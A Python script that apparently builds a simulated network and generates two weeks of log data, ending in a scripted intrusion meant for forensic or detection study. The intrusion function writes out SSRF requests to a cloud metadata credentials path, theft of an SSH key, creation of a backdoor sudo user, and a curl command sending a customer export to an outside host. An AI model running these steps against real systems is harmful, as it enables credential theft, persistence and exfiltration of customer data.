"""What happens on the stage: two weeks of honest work, and an intrusion on the last day. Says when (in the story) and what, nothing else.

Usage: story.py WORK [FIRST-DAY]. Leaves in WORK: `raw/` (what the daemons wrote), `marks.json` (the clock), `tree.json` (first processes of each host).
"""

import datetime, json, os, pathlib, random, shutil, subprocess, sys, time

from stage import Shell, Stage

UTC = datetime.timezone.utc
FIRST = datetime.date.fromisoformat(sys.argv[2] if len(sys.argv) > 2 else "2026-02-18")
INCIDENT = datetime.date(2026, 3, 4)
OFFICE, OUTSIDE_1, OUTSIDE_2 = "192.0.2.20", "203.0.113.66", "198.51.100.77"
SCANNERS = ["198.51.100.201", "198.51.100.202", "198.51.100.207", "198.51.100.219"]
VISITORS = [*(f"203.0.113.{n}" for n in range(100, 112)), *(f"198.51.100.{n}" for n in range(20, 30))]
PATHS = ["/", "/", "/about", "/preview?url=http://192.0.2.85/news", "/preview?url=http://192.0.2.85/shop", "/preview?url=http://192.0.2.85/team"]
PROBES = ["/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/", "/admin"]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 Version/17.3 Safari/605.1.15",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/122.0.0.0 Safari/537.36"]
RSYSLOG = """module(load="imuxsock")
:msg, contains, ") INFO (" stop
auth,authpriv.* /var/log/auth.log;{name}
*.*;auth,authpriv.none /var/log/syslog;{name}
# Twins, with the same lines to the microsecond: our clock needs to know when a line was written.
auth,authpriv.* /var/log/auth.twin;RSYSLOG_FileFormat
*.*;auth,authpriv.none /var/log/syslog.twin;RSYSLOG_FileFormat
"""
STYLES = {"bastion-1": "RSYSLOG_TraditionalFileFormat", "db-1": "RSYSLOG_FileFormat", "web-1": "RSYSLOG_SyslogProtocol23Format"}


class Story:
    def __init__(self, stage):
        self.stage, self.random = stage, random.Random(20260304)
        self.bastion, self.db, self.web, self.ci = (stage.hosts[n] for n in ("bastion-1", "db-1", "web-1", "ci-1"))
        self.version = iter(("1.4.0", "1.4.1", "1.5.0"))

    # ------------------------------------------------------------ the clock

    def at(self, text, pace=1.0):
        """Sets the story's clock to a time of its day."""
        self.now = datetime.datetime.combine(self.day, datetime.time.fromisoformat(text), UTC)
        self.stage.at(self.now.isoformat(), pace)

    def later(self, seconds):
        self.now += datetime.timedelta(seconds=seconds)
        self.stage.at(self.now.isoformat())

    # ------------------------------------------------------------ the hosts

    def prepare(self):
        """What tells the hosts apart."""
        for name, style in STYLES.items():
            (self.stage.hosts[name].root / "etc/rsyslog.conf").write_text(RSYSLOG.format(name=style))
        ssh = self.bastion.root / "home/deploy/.ssh"
        shutil.copy(self.stage.work / "keys/id_db", ssh / "id_db")
        os.chown(ssh / "id_db", 1003, 1003)
        with open(self.db.root / "home/deploy/.ssh/authorized_keys", "a") as keys:
            keys.write((self.stage.work / "keys/id_db.pub").read_text())
        for host in (self.db, self.web):
            path = host.root / "etc/sudoers.d/deploy"
            path.write_text("deploy ALL=(ALL:ALL) NOPASSWD: ALL\n")
            path.chmod(0o440)
        shutil.copytree(self.stage.work / "keys", self.ci.root / "keys")
        (self.db.root / "srv/exports/customers-2026-02.csv.gz").write_bytes(self.random.randbytes(24_000_000))
        (self.ci.root / "tmp/build.tar.gz").write_bytes(self.random.randbytes(50_000))
        self.jobs()
        for host in (self.bastion, self.db, self.web):
            host.do("ssh-keygen", "-A")
            (host.root / "var/log/audit").chmod(0o750)
        self.stage.world.do("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=example.net", "-keyout", "/world.key", "-out", "/world.pem", "-days", "30")
        shutil.copy(pathlib.Path(__file__).parent / "world.py", self.stage.world.root / "world.py")

    def jobs(self):
        crontab = lambda host, text: (host.root / "etc/cron.d/local").write_text(text)
        crontab(self.db, "0 2 * * * backup /usr/local/bin/backup-db\n")
        crontab(self.web, "0 5 * * * webapp /usr/local/bin/export-customers\n")
        crontab(self.bastion, "10 6 * * * root apt-get -qq update\n")
        self.db.do("chown", "-R", "backup:backup", "/srv/db")

    def boot(self):
        world = self.stage.world
        world.daemon("python3", "/world.py", "/mirror", "/world.pem", "/world.key")
        # The metadata service is the provider's: it runs in the world's file system, in web-1's network.
        enter = [f"--net=/run/netns/{self.web.net}" if part == "--net" else part for part in world.command("python3", "/world.py", "metadata")]
        self.metadata = subprocess.Popen(enter, stdin=subprocess.DEVNULL, start_new_session=True)
        for host in (self.bastion, self.db, self.web):
            host.daemon("/usr/sbin/rsyslogd", "-n", "-iNONE")
        time.sleep(0.5)
        for host in (self.bastion, self.db, self.web):
            host.daemon("/usr/sbin/sshd", "-D")
        self.web.daemon("/usr/sbin/nginx", "-g", "daemon off;")
        self.web.daemon("setpriv", "--reuid=webapp", "--regid=webapp", "--init-groups", "python3", "/opt/preview/preview.py")
        time.sleep(1.0)

    # ------------------------------------------------------------ honest work

    def cron(self, text, *hosts):
        self.at(text)
        self.stage.settle([h.cron(self.now.replace(second=0)) for h in hosts], 0.75)

    def scan(self, text):
        """Strangers guess passwords."""
        self.at(text, 60.0)
        tries = []
        for _ in range(5):
            user, host = self.random.choice(("root", "admin", "oracle", "test", "ubuntu", "alice")), self.random.choice((self.bastion, self.web))
            ssh = ["sshpass", "-p", "123456", "ssh", "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", "-b", self.random.choice(SCANNERS), f"{user}@{host.address}"]
            tries.append(subprocess.Popen(self.stage.world.command(*ssh), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
            time.sleep(0.05)
        for each in tries:
            each.wait(30)

    def get(self, address, agent, path):
        return ["--interface", address, "-s", "-o", "/dev/null", "-A", agent, f"http://{self.web.address}{path}"]

    def visits(self, text, count=14):
        """Visitors of the web application, and the probes that every web server sees."""
        self.at(text, 2000.0)
        line = []
        for n in range(count):
            probe = self.random.random() < 0.15
            one = self.get(self.random.choice(SCANNERS if probe else VISITORS), "curl/8.5.0" if probe else self.random.choice(AGENTS), self.random.choice(PROBES if probe else PATHS))
            line += (["--next"] if n else []) + one
        subprocess.run(self.stage.world.command("curl", *line), check=True, stdin=subprocess.DEVNULL, timeout=30)

    def release(self, text):
        """CI brings a release to web-1."""
        self.at(text)
        key = ["-q", "-i", "/keys/deploy"]
        self.ci_do("scp", *key, "/tmp/build.tar.gz", "deploy@web-1:/tmp/build.tar.gz")
        self.later(6)
        self.ci_do("ssh", *key, "deploy@web-1", "sudo /usr/local/bin/release /tmp/build.tar.gz")

    def ci_do(self, *command):
        subprocess.run(self.ci.command(*command), check=True, stdin=subprocess.DEVNULL, capture_output=True, timeout=30)

    def engineer(self, text, who, also_web=False):
        self.at(text)
        shell = Shell(self.stage, OFFICE, who, f"{who}@{self.bastion.address}")
        self.later(9)
        shell.run("uptime")
        self.later(50)
        shell.run("ssh db-1")
        self.later(15)
        shell.run("sqlite3 -readonly /srv/db/orders.db 'select count(*) from orders'" if who == "alice" else "df -h /srv")
        self.later(45)
        shell.run("sudo tail -n 3 /var/log/syslog" if who == "alice" else "sudo ls -l /var/tmp")
        self.later(80)
        shell.run("exit")
        if also_web:
            self.later(60)
            shell.run("ssh web-1")
            self.later(30)
            shell.run("sudo apt-get -q update")
            self.later(40)
            version = next(self.version, None)
            shell.run(f"sudo apt-get -q -y install preview-assets={version}" if version else "sudo apt-get -q -y upgrade")
            self.later(90)
            shell.run("exit")
        self.later(30)
        shell.leave()

    def workday(self, day):
        n = day.toordinal()
        yield "07:31", lambda t: self.release(t)
        yield "08:10", lambda t: self.engineer(t, "alice")
        if n % 2:
            yield "11:20", lambda t: self.engineer(t, "bob", also_web=n % 3 == 0)
        else:
            yield "13:40", lambda t: self.engineer(t, "bob", also_web=n % 3 == 0)
        yield "11:40", lambda t: self.release(t)
        yield "15:30", lambda t: self.engineer(t, "alice")

    def everyday(self):
        all_three = (self.bastion, self.db, self.web)
        yield "00:17", lambda t: self.cron(t, *all_three)
        yield "02:00", lambda t: self.cron(t, self.db)
        yield "03:40", lambda t: self.scan(t)
        yield "05:00", lambda t: self.cron(t, self.web)
        yield "06:10", lambda t: self.cron(t, self.bastion)
        yield "06:25", lambda t: self.cron(t, *all_three)
        yield "09:31", lambda t: self.visits(t)
        yield "12:17", lambda t: self.cron(t, *all_three)
        yield "13:03", lambda t: self.visits(t)
        yield "18:17", lambda t: self.cron(t, *all_three)
        yield "20:05", lambda t: self.visits(t)
        yield "22:10", lambda t: self.scan(t)

    # ------------------------------------------------------------ the intruder

    def intrusion(self):
        yield "08:52", lambda t: self.knock(t)
        yield "09:05", lambda t: self.metadata_theft(t)
        yield "10:08", lambda t: self.by_the_bastion(t)

    def ask(self, text, path):
        self.at(text)
        agent = "python-requests/2.31.0"
        subprocess.run(self.stage.world.command("curl", *self.get(OUTSIDE_1, agent, path)), check=True, stdin=subprocess.DEVNULL, timeout=30)

    def knock(self, _):
        for text, path in (("08:52:17", "/"), ("08:52:40", "/robots.txt"), ("08:53:05", "/preview?url=http://192.0.2.85/news"), ("08:57:31", "/preview?url=http://127.0.0.1:22/")):
            self.ask(text, path)

    def metadata_theft(self, _):
        head = "/preview?url=http://169.254.169.254/latest/meta-data/"
        for text, path in (("09:05:10", head), ("09:05:41", head + "iam/security-credentials/"), ("09:06:02", head + "iam/security-credentials/web-app")):
            self.ask(text, path)

    def by_the_bastion(self, _):
        self.at("10:08:21")
        shell = Shell(self.stage, OUTSIDE_1, "deploy", f"deploy@{self.bastion.address}", agent=False)
        for text, line in (("10:08:40", "id"), ("10:09:02", "ls -la ~/.ssh"), ("10:09:20", "cat ~/.ssh/id_db"), ("10:11:40", "ssh -i ~/.ssh/id_db -o BatchMode=yes web-1"),
                           ("10:15:02", "ssh -i ~/.ssh/id_db db-1"), ("10:15:40", "id; sudo -l"), ("10:16:30", "sudo bash"),
                           ("10:19:12", "useradd -m -u 1012 -s /bin/bash support2"), ("10:20:05", "echo 'support2 ALL=(ALL) NOPASSWD: ALL' | tee /etc/sudoers.d/support2"),
                           ("10:22:31", "ls -la /srv/exports"), ("10:24:00", "tar czf /tmp/.x.tgz /srv/exports/customers-2026-02.csv.gz"),
                           ("10:26:44", f"curl -sk -T /tmp/.x.tgz https://{OUTSIDE_2}/u"), ("10:29:50", "rm -f /tmp/.x.tgz"), ("10:31:02", "exit"), ("10:31:10", "exit")):
            self.at(text)
            shell.run(line)
        self.at("10:33:00")
        shell.leave()

    # ------------------------------------------------------------ all of it

    def tell(self):
        for n in range((INCIDENT - FIRST).days + 1):
            self.day = FIRST + datetime.timedelta(days=n)
            acts = list(self.everyday())
            if self.day.weekday() < 5:
                acts += self.workday(self.day)
            if self.day == INCIDENT:
                acts += self.intrusion()
            for text, act in sorted(acts, key=lambda a: a[0]):
                if text in ("03:40", "22:10", "09:31", "13:03", "20:05"):
                    text = f"{text}:{self.random.randint(0, 59):02}"
                act(text)
            print(f"{self.day} recorded", flush=True)
        self.at("23:59:59")

    def keep(self):
        raw = self.stage.work / "raw"
        shutil.rmtree(raw, ignore_errors=True)
        raw.mkdir()
        shutil.copy(self.db.root / "var/log/audit/audit.log", raw / "audit.log")
        for host in (self.bastion, self.db, self.web):
            for name in ("auth.log", "auth.twin", "syslog", "syslog.twin", "nginx/access.log", "nginx/access.twin", "nginx/error.log"):
                if (host.root / "var/log" / name).exists() and not (name.startswith("nginx") and host is not self.web):
                    (raw / host.name / name).parent.mkdir(parents=True, exist_ok=True)
                    shutil.copy(host.root / "var/log" / name, raw / host.name / name)
        (self.stage.work / "marks.json").write_text(json.dumps(self.stage.marks, indent=0))
        (self.stage.work / "tree.json").write_text(json.dumps({h.name: h.roots for h in self.stage.hosts.values()}))


def main():
    stage = Stage(sys.argv[1])
    story = Story(stage)
    try:
        stage.open()
        story.prepare()
        stage.listen()
        story.day = FIRST
        story.at("00:00:05")
        story.boot()
        story.tell()
    finally:
        if hasattr(story, "metadata"):
            story.metadata.terminate()
        stage.close()
    story.keep()
    print(f"audit records lost: {stage.lost}")


if __name__ == "__main__":
    main()
